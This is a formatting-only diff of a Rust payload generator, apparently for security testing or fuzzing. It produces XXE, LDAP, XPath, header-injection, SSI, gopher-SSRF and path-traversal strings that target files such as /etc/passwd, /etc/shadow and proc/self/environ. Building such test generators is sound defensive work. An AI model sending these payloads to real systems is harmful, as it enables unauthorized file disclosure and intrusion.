@@ -62,17 +62,34 @@ pub fn payload(random: &mut SplitMix64, family: &str) -> String {
                 _ => format!("gopher://127.0.0.1:6379/_{word}"),
             }
         }
-        "xml_injection" => format!("<!DOCTYPE {word} [<!ENTITY e{number} SYSTEM \"file:///etc/passwd\">]><{word}>&e{number};</{word}>"),
-        "ldap_injection" => random.pick(&["*)(uid=*))(|(uid=*", "admin)(&)", "*)(objectClass=*", "x)(|(cn=*)", "*))%00"]).to_string(),
+        "xml_injection" => {
+            format!("<!DOCTYPE {word} [<!ENTITY e{number} SYSTEM \"file:///etc/passwd\">]><{word}>&e{number};</{word}>")
+        }
+        "ldap_injection" => {
+            random.pick(&["*)(uid=*))(|(uid=*", "admin)(&)", "*)(objectClass=*", "x)(|(cn=*)", "*))%00"]).to_string()
+        }
         "xpath_injection" => {
-            let tail = *random.pick(&["count(/child::node())=1", "name(//*[1])='a'", "'1'='1", "string-length(name(/*[1]))=4", "//user[position()=1]/child::text()"]);
+            let tail = *random.pick(&[
+                "count(/child::node())=1",
+                "name(//*[1])='a'",
+                "'1'='1",
+                "string-length(name(/*[1]))=4",
+                "//user[position()=1]/child::text()",
+            ]);
             format!("{word}' or {tail}")
         }
         "header_injection" => {
-            let header = *random.pick(&["Set-Cookie: session=1", "Location: http://203.0.113.7/", "Content-Length: 0\r\n\r\nHTTP/1.1 200 OK", "X-Injected: 1"]);
+            let header = *random.pick(&[
+                "Set-Cookie: session=1",
+                "Location: http://203.0.113.7/",
+                "Content-Length: 0\r\n\r\nHTTP/1.1 200 OK",
+                "X-Injected: 1",
+            ]);
             format!("{word}\r\n{header}")
         }
-        _ => random.pick(&["<!--#exec cmd=\"ls -la\"-->", "<!--#include virtual=\"/etc/passwd\"-->", "<!--#echo var=\"DATE_LOCAL\" -->"]).to_string(),
+        _ => random
+            .pick(&["<!--#exec cmd=\"ls -la\"-->", "<!--#include virtual=\"/etc/passwd\"-->", "<!--#echo var=\"DATE_LOCAL\" -->"])
+            .to_string(),
     }
 }
 
@@ -118,7 +135,15 @@ fn script(random: &mut SplitMix64, number: u64) -> String {
 
 fn traversal(random: &mut SplitMix64) -> String {
     let step = *random.pick(&["../", "..\\", "....//", "%2e%2e/", "..;/"]);
-    let file = *random.pick(&["etc/passwd", "etc/shadow", "windows/win.ini", "boot.ini", "proc/self/environ", "WEB-INF/web.xml", "var/log/auth.log"]);
+    let file = *random.pick(&[
+        "etc/passwd",
+        "etc/shadow",
+        "windows/win.ini",
+        "boot.ini",
+        "proc/self/environ",
+        "WEB-INF/web.xml",
+        "var/log/auth.log",
+    ]);
     match random.below(5) {
         0 => format!("/{file}"),
         1 => format!("file:///{file}"),
